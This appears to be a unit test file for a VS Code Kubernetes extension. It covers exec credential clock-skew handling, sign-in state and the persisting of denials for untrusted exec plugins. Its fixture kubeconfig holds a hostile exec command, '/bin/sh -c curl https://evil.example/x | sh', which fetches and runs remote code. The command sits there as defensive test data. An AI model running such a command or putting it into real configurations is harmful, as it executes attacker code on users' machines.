// Bad-input catalogue rows about exec credential plugins, at unit level (the wire side is
// test/wire/badInputExec.test.ts): B22 (the sign-in state model), B29 (a denial persisted in globalState, keyed like
// approvals, and the "Deny" button of the approval dialog) and B50 (expiry maths under a skewed local clock).
import { before, describe, test } from 'node:test';
import * as assert from 'node:assert/strict';
import type * as vscode from 'vscode';
import { execApprovalKey } from '../../src/core/kube/execApproval';
import { clockSkewOfToken, isCredentialStale, parseExecCredential } from '../../src/core/kube/execCredential';
import { mergeKubeconfigs, type MergedKubeconfig } from '../../src/core/kube/kubeconfig';
import { describeSignIn, SignInState } from '../../src/core/kube/signInState';
import { installVscodeStub, type VscodeStub } from '../support/vscodeStub';

const MIN = 60_000;

function jwt(claims: Record<string, number>): string {
  const part = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
  return `${part({ alg: 'RS256', typ: 'JWT' })}.${part(claims)}.c2lnbmF0dXJl`;
}

/** A Memento over a Map, as globalState persists across sessions (a new store over the same map = a restart). */
function memento(): Pick<vscode.Memento, 'get' | 'update'> & { readonly data: Map<string, unknown> } {
  const data = new Map<string, unknown>();
  return {
    data,
    get: <T>(key: string, fallback?: T) => (data.has(key) ? (data.get(key) as T) : fallback) as T,
    update: (key: string, value: unknown) => {
      if (value === undefined) data.delete(key);
      else data.set(key, JSON.parse(JSON.stringify(value)));
      return Promise.resolve();
    },
  };
}

const config = (args: string): MergedKubeconfig =>
  mergeKubeconfigs([
    {
      path: '/home/u/.kube/added.yaml',
      text: [
        'clusters: [{name: c, cluster: {server: "https://c.example:6443"}}]',
        `users: [{name: evil, user: {exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: /bin/sh, args: ${args}, env: [{name: EXFIL_TOKEN, value: b29-env-value-canary}]}}}]`,
        'contexts: [{name: pasted, context: {cluster: c, user: evil}}]',
        '',
      ].join('\n'),
    },
  ]);

describe('bad-input rows: exec credentials (unit)', () => {
  let stub: VscodeStub;
  before(() => {
    stub = installVscodeStub();
  });

  test('B50: isCredentialStale counts a detected clock skew; a JWT issued "in our future" reveals it', () => {
    const now = Date.parse('2026-01-01T12:00:00Z');
    // Our clock runs 10 min behind the issuer: a 15-min token issued just now says iat = now + 10 min, exp = now + 25 min.
    const token = jwt({ iat: now / 1000 + 600, exp: now / 1000 + 1500 });
    assert.equal(clockSkewOfToken(token, now), 10 * MIN);
    const credential = parseExecCredential(
      JSON.stringify({
        kind: 'ExecCredential',
        apiVersion: 'v1',
        status: { token, expirationTimestamp: new Date(now + 25 * MIN).toISOString() },
      }),
      { command: 'kubelogin' },
      undefined,
      now,
    );
    assert.equal(credential.clockSkewMs, 10 * MIN);
    // Really valid until now + 15 min: refreshed a minute before that, not at now + 24 min as our clock would say.
    assert.equal(isCredentialStale(credential, now, now + 13 * MIN), false);
    assert.equal(isCredentialStale(credential, now, now + 14 * MIN + 1), true);
    assert.equal(
      isCredentialStale({ ...credential, clockSkewMs: undefined }, now, now + 14 * MIN + 1),
      false,
      'without skew it would be reused',
    );
    // No skew can be told from: an iat in our past (maybe a cached token), a few seconds ahead, an opaque token.
    assert.equal(clockSkewOfToken(jwt({ iat: now / 1000 - 600 }), now), undefined);
    assert.equal(clockSkewOfToken(jwt({ iat: now / 1000 + 20 }), now), undefined);
    assert.equal(clockSkewOfToken('ya29.opaque-token', now), undefined);
    assert.equal(clockSkewOfToken('a.not-base64-json.c', now), undefined);
    assert.equal(clockSkewOfToken(jwt({ nbf: now / 1000 + 300 }), now), 5 * MIN);
  });

  test('B50: our clock 10 min ahead: a "past" expiry within 15 min is used once, never cached; an hour past is refused', () => {
    const now = Date.parse('2026-01-01T12:00:00Z');
    const parse = (expiresAt: number) =>
      parseExecCredential(
        JSON.stringify({
          kind: 'ExecCredential',
          apiVersion: 'v1',
          status: { token: 't', expirationTimestamp: new Date(expiresAt).toISOString() },
        }),
        { command: 'aws' },
        undefined,
        now,
      );
    const skewed = parse(now - 5 * MIN);
    assert.equal(isCredentialStale(skewed, now, now), true, 'never reused');
    assert.throws(() => parse(now - 60 * MIN), /already expired/);
    // An ordinary credential: reused until a minute before it expires (unchanged by the skew handling).
    const fine = parse(now + 15 * MIN);
    assert.equal(isCredentialStale(fine, now, now + 13 * MIN), false);
    assert.equal(isCredentialStale(fine, now, now + 14 * MIN), true);
  });

  test('B22: SignInState: set by a prompt, kept (not waiting) after a failure, cleared by a success; listeners hear the context', () => {
    let t = 1000;
    const state = new SignInState(() => t);
    const heard: string[] = [];
    const stop = state.onDidChange((c) => heard.push(c));
    const prompt = { text: 'Open https://microsoft.com/devicelogin and enter the code ABCD-EFGH', code: 'ABCD-EFGH' };
    state.settled('aks', true); // nothing pending: no change
    state.prompted('aks', prompt);
    assert.deepEqual(state.get('aks'), { prompt, sinceMs: 1000, waiting: true });
    assert.equal(describeSignIn(state.get('aks'))?.badge, 'Sign-in required');
    t = 2000;
    state.settled('aks', false);
    assert.equal(state.get('aks')?.waiting, false);
    assert.match(describeSignIn(state.get('aks'))?.tooltip ?? '', /stopped before you signed in/);
    state.settled('aks', false); // no second change
    state.prompted('aks', prompt);
    state.settled('aks', true);
    assert.equal(state.get('aks'), undefined);
    assert.equal(describeSignIn(undefined), undefined);
    assert.deepEqual(heard, ['aks', 'aks', 'aks', 'aks']);
    stop();
    state.prompted('other', prompt);
    assert.equal(heard.length, 4);
  });

  test('B29: a denial is persisted by the approval key (survives a restart), never stores the command, and a changed command is not covered', async () => {
    const { GlobalStateExecApprovals } = await import('../../src/host/shared/execApprovals');
    const state = memento();
    const pasted = config(`["-c", "curl https://evil.example/x | sh"]`);
    const user = pasted.users.get('evil');
    assert.ok(user);
    const key = execApprovalKey(user);
    await new GlobalStateExecApprovals(state).deny(key);
    const afterRestart = new GlobalStateExecApprovals(state);
    assert.equal(afterRestart.isDenied(key), true);
    assert.equal(afterRestart.isApproved(key), false);
    assert.ok(!JSON.stringify([...state.data]).includes('evil.example'), 'only hashes are stored');
    const changedUser = config(`["-c", "curl https://evil.example/y | sh"]`).users.get('evil');
    assert.ok(changedUser);
    assert.equal(afterRestart.isDenied(execApprovalKey(changedUser)), false);
    // Approving later replaces the denial (one decision per key), and denying again replaces the approval.
    await afterRestart.approve(key);
    assert.equal(afterRestart.isDenied(key), false);
    assert.equal(afterRestart.isApproved(key), true);
    await afterRestart.deny(key);
    assert.equal(afterRestart.isApproved(key), false);
    await afterRestart.forgetAll();
    assert.equal(afterRestart.isDenied(key), false);
  });

  test('B29: "Deny" in the approval dialog persists the denial and refreshes the tree; dismissing decides nothing', async () => {
    stub.reset();
    const { runApproveExec } = await import('../../src/host/shared/approveExecCommand');
    const { GlobalStateExecApprovals } = await import('../../src/host/shared/execApprovals');
    const approvals = new GlobalStateExecApprovals(memento());
    let refreshed = 0;
    const log = { info() {}, warn() {}, error() {}, debug() {}, show() {} };
    const pasted = config(`["-c", "curl https://evil.example/x | sh"]`);
    const approve = (name: string) =>
      runApproveExec({ loadConfig: () => Promise.resolve(pasted), approvals, log, refresh: () => refreshed++ }, name);
    const key = execApprovalKey(pasted.users.get('evil')!);

    stub.answers.warning.push(undefined); // Escape
    await approve('pasted');
    assert.equal(approvals.isDenied(key) || approvals.isApproved(key), false);

    stub.answers.warning.push('Deny');
    await approve('pasted');
    const asked = stub.asked.filter((a) => a.kind === 'warning').pop();
    assert.deepEqual((asked?.options as unknown[]).slice(1), ['Allow', 'Deny']);
    assert.match(asked?.detail ?? '', /\/bin\/sh -c 'curl https:\/\/evil\.example\/x \| sh'/);
    assert.match(asked?.detail ?? '', /with env EXFIL_TOKEN/);
    assert.ok(!(asked?.detail ?? '').includes('b29-env-value-canary'), 'env values are never shown');
    assert.equal(approvals.isDenied(key), true);
    assert.equal(approvals.isApproved(key), false);
    assert.equal(refreshed, 1);
  });
});
